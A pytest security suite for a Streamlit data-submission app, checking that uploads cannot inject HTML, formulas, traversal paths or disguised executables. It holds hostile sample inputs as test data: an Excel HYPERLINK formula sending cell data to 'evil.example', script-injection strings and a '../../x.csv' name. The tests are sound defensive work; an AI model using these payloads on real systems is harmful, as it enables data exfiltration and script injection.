"""No file, note or click compromises the server or the office's Excel: size limit, names, content types, markup, formulas."""

from __future__ import annotations

import io
import re
import tomllib

import pytest
from openpyxl import load_workbook

from monitoring import actions, audit, intake
from monitoring.exports import csv_bytes, excel_bytes
from monitoring.permissions import local_user
from monitoring.store import Store, StoreError
from tests.conftest import FIXTURES, ROOT

FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
HTML = '<img src=x onerror="alert(1)"><script>alert(2)</script><b>粗</b>'


def note_file(note: str, source: str = "县卫体局") -> bytes:
    import csv

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerows([["指标编号", "年份", "数值", "数据来源", "备注"], ["C1-03b", "2023", "3.1", source, note]])
    return buffer.getvalue().encode("utf-8")


# ---------------------------------------------------------------- markup


def test_no_page_allows_raw_html():
    """No unsafe_allow_html, st.html or components.html anywhere in the pages: text from people can never become markup."""
    for path in [ROOT / "dashboard.py", *sorted((ROOT / "views").glob("*.py"))]:
        text = path.read_text(encoding="utf-8")
        assert "unsafe_allow_html" not in text, path.name
        assert not re.search(r"\bst\.html\(|components\.v1|components\.html", text), path.name


def test_plain_leaves_no_markup():
    from views.state import plain

    text = plain('[点我](javascript:alert(1)) **粗** <b>x</b> :red[红] `code` # 标题\n第二行')
    assert "\n" not in text
    for special in "[]()*<>:`#":
        assert re.search(rf"(?<!\\){re.escape(special)}", text) is None, special


def test_html_note_and_file_name_are_shown_as_text(app_on):
    """A note and a file name full of HTML go through submit and review in local mode: nothing is rendered as HTML."""
    at = app_on("views/submit.py")
    at.selectbox(key="submit_department").select("县卫体局").run()
    at.text_input(key="submit_user").input("<i>张三</i>").run()
    name = '<img src=x onerror=alert(1)>.csv'
    at.file_uploader(key="submit_upload").upload(name, note_file(HTML, source="<script>alert(3)</script>")).run()
    assert not at.exception
    at.button(key="submit_button").click().run()
    assert "待办公室审核" in "\n".join(s.value for s in at.success)
    assert all(not m.allow_html for m in [*at.markdown, *at.caption])  # alerts never render HTML at all

    at.switch_page("views/review.py").run()
    assert not at.exception
    table = at.dataframe[0].value
    assert list(table["备注"]) == [HTML] and list(table["数据来源"]) == ["<script>alert(3)</script>"]  # verbatim, as data
    shown = "\n".join(str(m.value) for m in [*at.markdown, *at.caption])
    assert re.search(r"(?<!\\)<", shown) is None  # every < escaped: shown as a character, never a tag
    assert "\\<img src\\=x onerror\\=alert\\(1\\)\\>\\.csv" in shown and "\\<i\\>张三" in shown
    assert all(not m.allow_html for m in [*at.markdown, *at.caption])  # alerts never render HTML at all


# ---------------------------------------------------------------- formulas


def test_a_formula_note_is_inert_in_every_export(tmp_path, catalogue):
    root = tmp_path / "data"
    office = local_user("王五")
    entry, report = actions.submit(office, note_file(FORMULA, source="@SUM(A1:A9)"), "公式.csv", "县卫体局", catalogue, root=root)
    assert report.ok
    item = actions.review_queue(office, catalogue, Store(root).live(catalogue).iloc[0:0], root=root)[0]
    assert item.table["备注"].iloc[0] == FORMULA  # kept verbatim as data

    book = load_workbook(io.BytesIO(excel_bytes({"待审核数据": item.table})))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    note = sheet.cell(row=2, column=header.index("备注") + 1)
    source = sheet.cell(row=2, column=header.index("数据来源") + 1)
    assert note.data_type == "s" and note.value == "'" + FORMULA
    assert source.data_type == "s" and source.value == "'@SUM(A1:A9)"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)

    text = csv_bytes(item.table).decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in text and "\n=" not in text and ",=" not in text

    actions.approve(office, entry["id"], root=root)
    rows = audit.table_rows(audit.read(root).events)
    audit_book = load_workbook(io.BytesIO(excel_bytes({"审计日志": __import__("pandas").DataFrame(rows)})))
    assert not any(c.data_type == "f" for row in audit_book.active.iter_rows() for c in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralized(start):
    import pandas as pd

    book = load_workbook(io.BytesIO(excel_bytes({"表": pd.DataFrame({"说明": [start + "1+1"]})})))
    cell = book.active.cell(row=2, column=1)
    assert cell.data_type == "s" and cell.value.startswith("'")


# ---------------------------------------------------------------- names and types


def test_an_uploaded_name_never_becomes_a_path(tmp_path, catalogue, monkeypatch):
    root = tmp_path / "office" / "data"
    monkeypatch.chdir(tmp_path)
    entry, _ = actions.submit(local_user("王五"), note_file("正常"), "../../x.csv", "县卫体局", catalogue, root=root)
    assert entry["filename"] == "../../x.csv"  # kept as a record of what was sent ...
    assert entry["file"] == entry["id"] + ".csv"  # ... but the kept file is named by the platform
    assert (root / "submissions" / entry["file"]).is_file()
    assert not list(tmp_path.rglob("x.csv"))
    assert all(p.resolve().is_relative_to(root.resolve()) for p in root.rglob("*"))


def test_a_traversal_name_through_the_page(app_on):
    at = app_on("views/submit.py", demo=False)
    at.selectbox(key="submit_department").select("县卫体局").run()
    at.text_input(key="submit_user").input("张三").run()
    at.file_uploader(key="submit_upload").upload("../../x.csv", note_file("正常")).run()
    at.button(key="submit_button").click().run()
    assert not at.exception
    from monitoring.datasets import data_root

    root = data_root()
    entry = Store(root).submissions()[0]
    assert entry["filename"] == "../../x.csv" and entry["file"] == entry["id"] + ".csv"
    assert not list(root.parent.rglob("x.csv"))


@pytest.mark.parametrize(("name", "content", "stored"), [
    ("看着像表格.csv", (FIXTURES / "measurements" / "excel-percent-format.xlsx").read_bytes(), ".xlsx"),
    ("看着像工作簿.xlsx", "指标编号,年份,数值\nC1-03b,2023,3.1\n".encode(), ".csv"),
])
def test_the_type_comes_from_the_content_not_the_name(tmp_path, catalogue, name, content, stored):
    entry, report = actions.submit(local_user("王五"), content, name, "县统计局", catalogue, root=tmp_path)
    assert entry["file"].endswith(stored) and report.ok, report.errors


@pytest.mark.parametrize("content", [b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" * 20, b"<html><script>alert(1)</script></html>"])
def test_a_program_or_a_web_page_named_xlsx_is_refused(tmp_path, catalogue, content):
    entry, report = actions.submit(local_user("王五"), content, "数据.xlsx", "县卫体局", catalogue, root=tmp_path)
    assert not report.ok and entry["status"] == "rejected"
    assert not (tmp_path / "measurements").exists() or not list((tmp_path / "measurements").iterdir())


# ---------------------------------------------------------------- size


def test_the_upload_limit_is_the_same_in_config_and_code():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] == actions.MAX_UPLOAD_MB


def test_an_oversized_file_is_refused_before_anything_is_kept(tmp_path, catalogue):
    data = note_file("正常") + b" " * actions.MAX_UPLOAD_BYTES
    with pytest.raises(StoreError, match=f"超过 {actions.MAX_UPLOAD_MB} MB"):
        actions.submit(local_user("王五"), data, "大.csv", "县卫体局", catalogue, root=tmp_path)
    assert Store(tmp_path).submissions() == []


def test_the_cli_refuses_an_oversized_file(tmp_path, capsys):
    from monitoring.cli import main

    big = tmp_path / "大.csv"
    with big.open("wb") as handle:
        handle.write(note_file("正常"))
        handle.truncate(actions.MAX_UPLOAD_BYTES + 1)
    code = main(["submit", str(big), "--department", "县卫体局", "--user", "张三", "--root", str(tmp_path / "data")])
    assert code == 1 and "文件太大" in capsys.readouterr().err


def test_review_preview_keeps_the_stored_rows(catalogue):
    import pandas as pd

    from monitoring.measurements import validate_bytes

    rows = validate_bytes(note_file("备注一"), catalogue, "x.csv").rows
    table = intake.review_preview(rows.drop(columns=["_row"]), catalogue, pd.DataFrame())
    assert list(table.columns) == intake.REVIEW_COLUMNS and list(table["序号"]) == [1] and list(table["备注"]) == ["备注一"]
